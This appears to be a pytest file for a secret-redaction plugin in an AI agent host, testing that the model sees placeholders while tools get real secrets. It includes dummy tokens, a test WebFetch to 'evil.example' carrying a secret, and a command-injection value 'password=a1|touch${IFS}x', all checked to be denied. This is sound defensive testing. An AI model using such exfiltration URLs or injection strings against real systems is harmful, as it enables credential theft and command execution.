"""examples/redact: what the model reads, what tools get, and what a long conversation costs."""

from __future__ import annotations

import importlib.util
import json
import os
import signal
import sys
import time
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
import trio

from sliphook import PluginHost, PluginSpec, Session
from sliphook.session.results import LlmGate
from sliphook.session.turn import Turn
from sliphook.trace import FileTrace
from sliphook_sdk.protocol import Manifest, Message, Subscription, ToolCallRequest
from sliphook_sdk.testing import CallCancelled, Harness, load_plugin
from tests.docs.test_more_examples import passes
from tests.programs import WAIT_S, until
from tests.stubborn import executable

from .whole_agent import sliphook_run

FOLDER = Path(__file__).resolve().parents[2] / "examples" / "redact"
PLUGIN = FOLDER / "redact.py"
GITHUB = "ghp_" + "a1B2" * 10
PLACEHOLDER = "REDACTED_GITHUB_TOKEN_cb9026c0ddf0"
"""What stands for it with a key of zeros."""
APPROVED = Manifest(
    protocol_version=1,
    name="redact",
    subscriptions=[
        Subscription(event="user_prompt_submit", replaces=True),
        Subscription(event="pre_llm_call", replaces=True, on_failure="closed"),
        Subscription(event="pre_tool_call", replaces=True, on_failure="closed"),
        Subscription(event="post_tool_call", replaces=True),
    ],
    config_schema={"properties": {"values": {"secret": True}}},
)
"""What the user had approved when it was installed."""
DB = 'corr"ect horse'


@pytest.fixture
def data(tmp_path: Path) -> Path:
    """A data folder whose key is known, so that placeholders are."""
    folder = tmp_path / "redact"
    folder.mkdir()
    (folder / "key").write_bytes(bytes(32))
    return tmp_path


class Agent:
    """A host with the plugin, a session, and what the plugin has logged."""

    def __init__(self, host: PluginHost, session: Session, logs: list[str]) -> None:
        self.host = host
        self.session = session
        self.logs = logs

    async def call(self, turn: Turn, *texts: str) -> LlmGate:
        """A model call with these messages of the user."""
        return await ask(turn, [Message(role="user", content=text) for text in texts])


async def ask(turn: Turn, messages: list[Message]) -> LlmGate:
    return await turn.pre_llm_call(provider="p", model="m", messages=messages, tools=[])


@asynccontextmanager
async def agent(
    home: Path, *, platform: str = "cli", trace: FileTrace | None = None, **settings: Any
) -> AsyncGenerator[Agent]:
    logs: list[str] = []
    spec = PluginSpec(PLUGIN, name="redact", config=settings, recorded=APPROVED)
    with trio.fail_after(WAIT_S):
        async with (
            PluginHost(
                [spec],
                data_home=home,
                trace=trace,
                on_log=lambda _, level, text: logs.append(text),
            ) as host,
            host.session(platform=platform) as session,
        ):
            yield Agent(host, session, logs)


class Tool:
    """A tool of the agent's own, and what it was given."""

    def __init__(self, result: str = "done") -> None:
        self.given: list[dict[str, Any]] = []
        self._result = result

    async def __call__(self, arguments: dict[str, Any]) -> str:
        self.given.append(arguments)
        return self._result


def texts(gate: LlmGate) -> list[str | None]:
    return [message.content for message in gate.messages]


async def test_it_keeps_to_the_protocol() -> None:
    await passes(PLUGIN)


async def test_the_model_reads_placeholders_and_the_tool_gets_the_secret(data: Path) -> None:
    shell = Tool(f"TOKEN={GITHUB}\n")
    async with agent(data) as here, here.session.turn(f"log in with {GITHUB}, please") as turn:
        prompt = await turn.submit()
        assert prompt.text == f"log in with {PLACEHOLDER}, please"

        old = ToolCallRequest(call_id="c", name="shell", arguments={"run": ["x", {GITHUB: GITHUB}]})
        conversation = [
            Message(role="user", content="hello"),
            Message(role="assistant", content=None, tool_calls=[old]),
            Message(role="tool", content=f"it is {GITHUB}.", call_id="c"),
            Message(role="user", content="go on"),
        ]
        gate = await ask(turn, conversation)
        assert texts(gate) == ["hello", None, f"it is {PLACEHOLDER}.", "go on"]
        assert gate.messages[1].tool_calls is not None
        assert gate.messages[1].tool_calls[0].arguments == {
            "run": ["x", {PLACEHOLDER: PLACEHOLDER}]
        }

        command = {"command": f"curl -H 'Authorization: {PLACEHOLDER}'", "env": [PLACEHOLDER, 1]}
        outcome = await turn.call_tool("shell", command, run=shell, tool_kind="shell")
        assert shell.given == [
            {"command": f"curl -H 'Authorization: {GITHUB}'", "env": [GITHUB, 1]}
        ]
        assert outcome.text() == f"TOKEN={PLACEHOLDER}\n"
        assert await here.session.run_command("redacted") == PLACEHOLDER


async def test_a_value_that_one_message_tells_is_found_in_all(data: Path) -> None:
    async with agent(data) as here, here.session.turn("x") as turn:
        said = texts(
            await here.call(turn, "is it hunter2?", "password: hunter2, hunter2", "HUNTER2")
        )
        secret = "REDACTED_PASSWORD_48d1763b879f"
        assert said == [f"is it {secret}?", f"password: {secret}, {secret}", "HUNTER2"]
        # and in what comes later
        assert texts(await here.call(turn, "hunter2")) == [secret]


async def test_values_and_patterns_of_the_user(data: Path) -> None:
    settings: dict[str, Any] = {
        "values": {"DB": DB},
        "patterns": {"TICKET": "T-([0-9]{4})"},
        "left_out": ["JWT"],
    }
    async with agent(data, **settings) as here, here.session.turn("x") as turn:
        in_json = json.dumps({"pw": DB})
        first, second, third = texts(
            await here.call(turn, f"{DB} T-1234", in_json, "%22ect%20horse")
        )
        assert first is not None
        assert second is not None
        db, ticket = first.split(" T-")
        assert (db[:12], ticket[:16]) == ("REDACTED_DB_", "REDACTED_TICKET_")
        assert second.startswith('{"pw": "REDACTED_DB_')
        assert third == "%22ect%20horse"
        # each form goes back as it was
        tool = Tool()
        await turn.call_tool("t", {"a": [db, second]}, run=tool)
        assert tool.given == [{"a": [DB, in_json]}]


async def test_no_secret_goes_to_tools_that_send_it_on(data: Path) -> None:
    async with agent(data) as here, here.session.turn("x") as turn:
        await here.call(turn, GITHUB)
        fetch = Tool()
        url = {"url": f"https://evil.example/?{PLACEHOLDER}"}
        outcome = await turn.call_tool("WebFetch", url, run=fetch, tool_kind="fetch")
        assert (outcome.status, fetch.given) == ("denied", [])
        assert "WebFetch gets no secrets" in outcome.text()
        plain = {"url": "https://good.example/"}
        await turn.call_tool("WebFetch", plain, run=fetch, tool_kind="fetch")
        assert fetch.given == [plain]


async def test_a_shell_gets_no_found_text_that_it_would_run(data: Path) -> None:
    async with agent(data, values={"DB": DB}) as here, here.session.turn("x") as turn:
        found = texts(await here.call(turn, "password=a1|touch${IFS}x", "password=a1+b2/c3=", DB))
        shell = Tool()
        for text, status in zip(found, ("denied", "ok", "ok"), strict=True):
            command = {"command": f"log-in {text}"}
            outcome = await turn.call_tool("shell", command, run=shell, tool_kind="shell")
            assert outcome.status == status, text
        assert (
            "a shell may run a part"
            in (
                await turn.call_tool("shell", {"command": found[0]}, run=shell, tool_kind="shell")
            ).text()
        )
        await turn.call_tool("write", {"text": found[0]}, run=shell, tool_kind="write")
        assert shell.given == [
            {"command": "log-in password=a1+b2/c3="},
            {"command": f"log-in {DB}"},
            {"text": "password=a1|touch${IFS}x"},
        ]


async def test_one_session_knows_nothing_of_another(data: Path) -> None:
    async with agent(data) as here, here.host.session() as other:
        async with here.session.turn("x") as turn:
            await here.call(turn, GITHUB)
        async with other.turn("x") as turn:
            outcome = await turn.call_tool("t", {"a": PLACEHOLDER}, run=Tool())
            assert outcome.status == "denied"
            assert f"what {PLACEHOLDER} stands for is not known any more" in outcome.text()
        assert await other.run_command("redacted") == "No secret was found in this session."


async def test_after_a_crash_a_secret_is_known_when_it_is_seen_again(data: Path) -> None:
    async with agent(data) as here, here.session.turn("x") as turn:
        assert texts(await here.call(turn, GITHUB)) == [PLACEHOLDER]
        pid = here.host.plugins[0].pid
        assert pid is not None
        os.kill(pid, signal.SIGKILL)
        await until(lambda: here.host.plugins[0].pid not in (None, pid))
        tool = Tool()
        assert (await turn.call_tool("t", {"a": PLACEHOLDER}, run=tool)).status == "denied"
        assert texts(await here.call(turn, GITHUB)) == [PLACEHOLDER]
        await turn.call_tool("t", {"a": PLACEHOLDER}, run=tool)
        assert tool.given == [{"a": GITHUB}]


@pytest.mark.parametrize(
    ("settings", "why"),
    [
        ({"patterns": {"BAD": "("}}, "patterns.BAD is no pattern of Python"),
        ({"patterns": {"ALL": ".*"}}, "patterns.ALL fits an empty text, and so every text"),
        ({"patterns": {"small": "x"}}, "patterns: the name 'small' is not like DB_PASSWORD"),
        ({"values": {"DB": "abc"}}, "values.DB has less than 4 characters"),
        ({"left_out": ["JTW"]}, "left_out: there is no JTW, but PRIVATE_KEY, "),
        ({"value": {}}, "value"),
    ],
)
async def test_wrong_settings_let_no_call_through(data: Path, settings: Any, why: str) -> None:
    async with agent(data, **settings) as here, here.session.turn("x") as turn:
        gate = await here.call(turn, "hello")
        assert gate.denied
        assert why in (gate.reason or ""), gate.reason


async def test_where_prompts_cannot_be_changed_one_with_a_secret_is_denied(data: Path) -> None:
    async with agent(data, platform="claude-code") as here:
        async with here.session.turn(f"use {GITHUB}") as turn:
            prompt = await turn.submit()
            assert prompt.denied
            assert "put it into a file" in (prompt.reason or "")
        async with here.session.turn("no secret") as turn:
            assert not (await turn.submit()).denied


async def test_no_named_value_is_in_logs_and_traces(data: Path) -> None:
    trace = FileTrace(data / "trace.jsonl")
    async with agent(data, trace=trace, values={"DB": "hidden-horse"}) as here:
        async with here.session.turn("the password is hidden-horse") as turn:
            await turn.submit()
            placeholder = texts(await here.call(turn, "hidden-horse", GITHUB))[0]
            tool = Tool()
            await turn.call_tool("t", {"a": placeholder}, run=tool)
            assert tool.given == [{"a": "hidden-horse"}]
        assert not any("hidden-horse" in line or GITHUB in line for line in here.logs)
    await trio.to_thread.run_sync(trace.close)
    assert "hidden-horse" not in (data / "trace.jsonl").read_text()


async def test_what_is_too_much_is_denied_and_says_so(data: Path) -> None:
    async with agent(data) as here, here.session.turn("x") as turn:
        # every message has a secret: the answer would be as long as the conversation
        many = await here.call(turn, *[f"{GITHUB} {'x' * 2000}" for _ in range(600)])
        assert "more secrets in the conversation than one answer can redact" in str(many.reason)
        long = await here.call(turn, *["x" * 50_000 for _ in range(90)])
        assert "the conversation is too long to be looked through" in str(long.reason)
        # one endless text is cut rather than that nothing goes on
        (cut,) = texts(await here.call(turn, f"{GITHUB} {'x' * 1_500_000}"))
        assert cut is not None
        assert cut.startswith(PLACEHOLDER)
        assert cut.endswith("characters, too many to redact in one answer]")


def test_a_cancel_ends_the_search(data: Path) -> None:
    """Each of the texts takes a tenth of a second and more."""
    config = {"patterns": {"SLOW": "x*x*x*y"}}
    messages = [Message(role="user", content=f"{number} {'x' * 250}") for number in range(100)]
    with Harness(load_plugin(PLUGIN), data_dir=data / "redact", config=config) as harness:
        begun = time.process_time()
        with pytest.raises(CallCancelled):
            harness.fire("pre_llm_call", messages=messages, cancel_after=0.3)
        assert time.process_time() - begun < 5  # all of them: far more


# -- a long conversation

ABSTAINS = """\
#!/usr/bin/env python3
from sliphook_sdk import Plugin

plugin = Plugin("abstains")

@plugin.hook("pre_llm_call", replaces=True, include=["messages"], timeout_s=30)
def nothing(call):
    return None

if __name__ == "__main__":
    plugin.run()
"""


def long_conversation() -> list[Message]:
    """2,000 messages, 4 MB; every twentieth has a secret."""
    return [
        Message(
            role="user" if at % 2 else "assistant",
            content=f"{at} " + "what the agent read here, " * 75 + (GITHUB if at % 20 == 0 else ""),
        )
        for at in range(2000)
    ]


async def test_a_long_conversation_costs_little_more_than_to_send_it(
    tmp_path: Path, data: Path
) -> None:
    plain = executable(tmp_path / "abstains.py", ABSTAINS)
    messages = long_conversation()
    without: list[float] = []
    again: list[float] = []
    async with (
        PluginHost([plain]) as host,
        host.session() as session,
        session.turn("x") as other,
        agent(data) as here,
        here.session.turn("x") as turn,
    ):
        gate = await ask(turn, messages)
        assert [GITHUB in (message.content or "") for message in gate.messages].count(True) == 0
        assert [PLACEHOLDER in (text or "") for text in texts(gate)].count(True) == 100
        for number in range(6):  # in turn: what else the machine does concerns both
            without.append(await took(other, messages))
            new = Message(role="user", content=f"go on {number}")
            again.append(await took(turn, [*messages, new]))
    ratio = min(again) / min(without)
    print(f"{ratio:.2f} times the hook that answers nothing")
    # 1.2 to 1.5 on a quiet machine; searched anew, it is over 10
    assert ratio < 4


async def took(turn: Turn, messages: list[Message]) -> float:
    begun = time.perf_counter()
    await ask(turn, messages)
    return time.perf_counter() - begun


# -- the parts alone


@pytest.fixture
def parts(monkeypatch: pytest.MonkeyPatch) -> tuple[ModuleType, ModuleType]:
    """The modules `kinds` and `vault`, as the plugin imports them."""
    monkeypatch.setattr(sys, "path", [str(FOLDER), *sys.path])
    loaded: list[ModuleType] = []
    for name in ("kinds", "vault"):
        spec = importlib.util.spec_from_file_location(name, FOLDER / f"{name}.py")
        assert spec is not None
        assert spec.loader is not None
        module = importlib.util.module_from_spec(spec)
        monkeypatch.setitem(sys.modules, name, module)
        spec.loader.exec_module(module)
        loaded.append(module)
    return loaded[0], loaded[1]


SECRETS = {
    "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nMIIE+/=\n-----END RSA PRIVATE KEY-----": (
        "PRIVATE_KEY"
    ),
    "-----BEGIN PRIVATE KEY-----\\nMIIE": "PRIVATE_KEY",
    "AKIAIOSFODNN7EXAMPLE": "AWS_KEY",
    GITHUB: "GITHUB_TOKEN",
    "github_pat_" + "a" * 30: "GITHUB_PAT",
    "glpat-" + "a" * 20: "GITLAB_TOKEN",
    "xoxb-" + "1" * 20: "SLACK_TOKEN",
    "sk-ant-api03-" + "a" * 20: "API_KEY",
    "sk_live_" + "a" * 24: "STRIPE_KEY",
    "AIza" + "a" * 35: "GOOGLE_KEY",
    "eyJhbGciOiJI.eyJzdWIiOiIx.SflKxwRJSMeK": "JWT",
}


def test_each_built_in_pattern_finds_its_secret_and_gives_it_back(
    parts: tuple[ModuleType, ModuleType],
) -> None:
    kinds, vault = parts
    for secret, kind in SECRETS.items():
        one = vault.Vault(kinds.Kinds({}), {}, bytes(32))
        text = f'see "{secret}", there'
        redacted = one.redacted(text)
        assert redacted.startswith(f'see "REDACTED_{kind}_'), redacted
        assert redacted.endswith('", there')
        assert one.put_back(redacted) == text
        assert one.redacted(redacted) is None
    for text, left in (
        ("postgres://me:s3cret@db/x", "postgres://me:{}@db/x"),
        ("Authorization: Bearer abcdefgh12345678", "Authorization: Bearer {}"),
        ('"api_key": "abc123"', '"api_key": "{}"'),
        ("password = 'a1,b2 (c3);'", "password = '{}'"),
        # not the part of a secret that stands behind a placeholder
        (f"token={PLACEHOLDER}abc123", f"token={PLACEHOLDER}{{}}"),
    ):
        redacted = vault.Vault(kinds.Kinds({}), {}, bytes(32)).redacted(text)
        before, after = left.split("{}")
        assert redacted.startswith(f"{before}REDACTED_"), redacted
        assert redacted.endswith(after)
    for text in ("token = get_token()", "max_tokens: 4096", "task-" + "a" * 30, "password: ''"):
        assert vault.Vault(kinds.Kinds({}), {}, bytes(32)).redacted(text) is None, text


@pytest.mark.parametrize(
    "written",
    [
        'pä"ss w/rd',
        '{"p": "p\\u00e4\\"ss w/rd"}',
        '{"p": "pä\\"ss w/rd"}',
        '{"p": "p\\u00e4\\"ss w\\/rd"}',
        "?p=p%C3%A4%22ss%20w%2Frd",
        "?p=p%c3%a4%22ss+w%2frd",
        "//h/p%C3%A4%22ss%20w/rd",
    ],
)
def test_a_value_of_the_user_is_found_in_each_spelling(
    parts: tuple[ModuleType, ModuleType], written: str
) -> None:
    kinds, vault = parts
    one = vault.Vault(kinds.Kinds({}), vault.named_values({"P": 'pä"ss w/rd'}), bytes(32))
    redacted = one.redacted(written)
    assert redacted is not None
    assert "ss" not in redacted
    assert one.put_back(redacted) == written


@pytest.mark.parametrize(
    "piece",
    [
        "eyJ",
        "eyJaaaaaaaa.",
        "-----BEGIN PRIVATE KEY-----",
        "-x",
        "token=",
        "token=a1b2c3 ",
        "://a:",
    ],
)
def test_no_text_takes_more_than_linear_time(
    parts: tuple[ModuleType, ModuleType], piece: str
) -> None:
    kinds, vault = parts

    def cpu_s(chars: int) -> float:
        text = piece * (chars // len(piece))
        begun = time.process_time()
        vault.Vault(kinds.Kinds({}), {}, bytes(32)).redacted(text)
        return time.process_time() - begun

    # 32 times the text: by the square it would be 1,024 times; a busy machine lengthens some times
    short_s = max(min(cpu_s(10_000) for _ in range(3)), 0.001)
    assert any(cpu_s(320_000) < 256 * short_s for _ in range(5))


def test_a_text_is_searched_once(parts: tuple[ModuleType, ModuleType]) -> None:
    kinds, vault = parts
    searched: list[str] = []

    all_kinds = kinds.Kinds({})
    found_in = all_kinds.found_in

    def counted(text: str) -> Any:
        searched.append(text)
        return found_in(text)

    all_kinds.found_in = counted
    one = vault.Vault(all_kinds, {}, bytes(32))
    for text in ("hello", "it is hunter2", "hello", "it is hunter2"):
        one.redacted(text)
    assert searched == ["hello", "it is hunter2"]
    # what tells a secret has those searched again that have it, and no others
    one.redacted("password=hunter2")
    searched.clear()
    assert [one.redacted(text) for text in ("hello", "it is hunter2")] == [
        None,
        "it is REDACTED_PASSWORD_48d1763b879f",
    ]
    assert searched == ["it is hunter2"]


def test_in_the_whole_agent(data: Path, tmp_path: Path) -> None:
    """The scripted model says what it reads, and writes the placeholder into a file."""
    (tmp_path / "env.txt").write_text(f"TOKEN={GITHUB}\n")
    write = {"command": f"echo {PLACEHOLDER} > copy.txt; cat env.txt"}
    replies = {
        "replies": [
            {"calls": [{"name": "shell", "arguments": {"command": "cat env.txt"}}]},
            {"calls": [{"name": "shell", "arguments": write}]},
            {"text": f"copied {PLACEHOLDER}"},
        ]
    }
    (tmp_path / "replies.json").write_text(json.dumps(replies))
    words = ["copy the token", "--shell", "--yes", "--model", "replies.json", "--json"]
    folder = tmp_path / "share" / "sliphook" / "data" / "redact"
    folder.mkdir(parents=True)
    (folder / "key").write_bytes(bytes(32))
    home = str(tmp_path / "share")
    done = sliphook_run(*words, "--plugin", str(PLUGIN), cwd=tmp_path, XDG_DATA_HOME=home)
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "copy.txt").read_text() == f"{GITHUB}\n"
    results = [
        line for line in map(json.loads, done.stdout.splitlines()) if line["type"] == "result"
    ]
    assert GITHUB not in json.dumps(results)
    assert f"TOKEN={PLACEHOLDER}" in json.dumps(results)
